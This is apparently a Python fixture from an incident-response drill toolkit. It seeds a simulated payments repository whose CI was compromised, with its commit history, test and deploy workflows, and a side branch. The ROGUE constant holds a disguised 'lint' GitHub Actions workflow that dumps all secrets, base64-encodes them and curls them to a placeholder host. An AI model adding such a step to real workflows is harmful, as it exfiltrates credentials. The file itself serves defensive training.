"""The repository of a company whose CI was taken over: history, two workflows, a branch with an old version of one."""

from __future__ import annotations

from datetime import datetime, timedelta

from irkit.drill.world.git_server import GitServer
from irkit.drill.world.git_stream import GitStream

DEPLOY, TESTS = ".github/workflows/deploy.yml", ".github/workflows/tests.yml"
_MAIN = "refs/heads/main"
_TESTS = """name: tests
on: [push, pull_request]
permissions:
  contents: read
jobs:
  tests:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: python -m unittest
"""
_DEPLOY = """name: deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
  id-token: write
jobs:
  deploy:
    runs-on: [self-hosted, Linux]
    steps:
      - uses: actions/checkout@v4
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: ROLE
          aws-region: eu-west-1
      - run: npm ci
      - run: aws kms decrypt --ciphertext-blob fileb://ledger.bin --query Plaintext --output text > ledger.key
      - run: ./deploy.sh
"""
ROGUE = """name: lint
on: [push, workflow_dispatch]
permissions:
  id-token: write
jobs:
  lint:
    runs-on: [self-hosted, Linux]
    steps:
      - run: echo '${{ toJSON(secrets) }}' | base64 | curl --data @- https://metrics.invalid/in
"""
"""What an intruder pushes; the address can never exist (RFC 2606)."""


def seed_ci_repository(server: GitServer, full_name: str, role_arn: str, alarm_at: datetime) -> None:
    """Write it; all of it is older than two weeks before the alarm, but for a few honest commits."""
    stream = GitStream()
    deploy = _DEPLOY.replace("ROLE", role_arn)
    head = stream.commit(_MAIN, (), {"README.md": "# payments\n"}, "Begin\n", alarm_at - timedelta(days=90))
    first = {TESTS: _TESTS, DEPLOY: deploy.replace("      - run: npm ci\n", "")}
    head = stream.commit(_MAIN, (head,), dict(first), "Deploy by CI\n", alarm_at - timedelta(days=60))
    old = deploy.replace("npm ci", "npm ci --ignore-scripts")
    stream.commit(
        "refs/heads/faster-deploy", (head,), {DEPLOY: old}, "Try a faster deploy\n", alarm_at - timedelta(days=41)
    )
    head = stream.commit(_MAIN, (head,), {DEPLOY: deploy}, "Install before the deploy\n", alarm_at - timedelta(days=40))
    for number, hours in enumerate((400, 80, 26, 5), start=1):
        text = f'"""The ledger, revision {number}."""\n'
        at = alarm_at - timedelta(hours=hours)
        head = stream.commit(_MAIN, (head,), {"payments/ledger.py": text}, f"Improve the ledger ({number})\n", at)
    folder = server.create(full_name)
    server.git("fast-import", "--quiet", "--date-format=raw", cwd=folder, stdin=bytes(stream.data))
